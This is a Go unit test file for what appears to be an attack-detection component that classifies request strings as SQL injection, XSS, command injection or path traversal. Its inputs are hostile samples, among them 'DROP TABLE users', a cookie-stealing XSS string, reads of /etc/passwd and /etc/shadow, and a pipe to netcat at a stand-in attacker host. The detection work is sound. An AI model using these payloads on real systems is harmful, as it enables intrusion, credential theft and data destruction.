package capture

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func payloadByType(payloads []Payload, typ string) (Payload, bool) {
	for _, p := range payloads {
		if p.Type == typ {
			return p, true
		}
	}
	return Payload{}, false
}

func TestExtractPayloadsSQLInjection(t *testing.T) {
	cases := []string{
		"username=admin' OR '1'='1",
		"id=1 UNION SELECT username,password FROM users",
		"q=x'; DROP TABLE users",
		"id=1'--",
	}
	for _, combined := range cases {
		payloads := ExtractPayloads(combined)
		p, ok := payloadByType(payloads, TypeSQLInjection)
		require.True(t, ok, "expected sql_injection in %q", combined)
		assert.Equal(t, 0.85, p.Confidence)
		assert.Equal(t, "request", p.Location)
		assert.NotEmpty(t, p.Value)
	}
}

func TestExtractPayloadsXSS(t *testing.T) {
	for _, combined := range []string{
		`comment=<script>alert(1)</script>`,
		`redirect=javascript:alert(document.cookie)`,
		`img=<img src=x onerror=alert(1)>`,
	} {
		payloads := ExtractPayloads(combined)
		p, ok := payloadByType(payloads, TypeXSS)
		require.True(t, ok, "expected xss in %q", combined)
		assert.Equal(t, 0.80, p.Confidence)
	}
}

func TestExtractPayloadsCommandInjection(t *testing.T) {
	for _, combined := range []string{
		"host=localhost; cat /etc/passwd",
		"file=$(whoami).txt",
		"ping=8.8.8.8|nc attacker.example 4444",
	} {
		payloads := ExtractPayloads(combined)
		p, ok := payloadByType(payloads, TypeCommandInjection)
		require.True(t, ok, "expected command_injection in %q", combined)
		assert.Equal(t, 0.75, p.Confidence)
	}
}

func TestExtractPayloadsPathTraversal(t *testing.T) {
	payloads := ExtractPayloads("GET /download?file=../../etc/passwd")
	p, ok := payloadByType(payloads, TypePathTraversal)
	require.True(t, ok)
	assert.Equal(t, 0.90, p.Confidence)
	assert.Equal(t, "url", p.Location)

	payloads = ExtractPayloads("file=%2e%2e%2fetc%2fpasswd")
	_, ok = payloadByType(payloads, TypePathTraversal)
	assert.True(t, ok, "encoded traversal markers should still match")
}

func TestExtractPayloadsOnePerFamily(t *testing.T) {
	combined := "id=1' OR '1'='1 UNION SELECT pw FROM users <script>x</script> ; cat /etc/shadow ../../boot.ini"
	payloads := ExtractPayloads(combined)

	seen := map[string]int{}
	for _, p := range payloads {
		seen[p.Type]++
	}
	assert.Len(t, payloads, 4)
	for typ, n := range seen {
		assert.Equal(t, 1, n, "family %s reported more than once", typ)
	}
}

func TestExtractPayloadsCleanRequest(t *testing.T) {
	assert.Empty(t, ExtractPayloads("GET /products?page=2&sort=price"))
}

func TestExtractPayloadsTruncatesLongValues(t *testing.T) {
	combined := "q=../../" + strings.Repeat("a", 500)
	p, ok := payloadByType(ExtractPayloads(combined), TypePathTraversal)
	require.True(t, ok)
	assert.LessOrEqual(t, len(p.Value), 200)
}
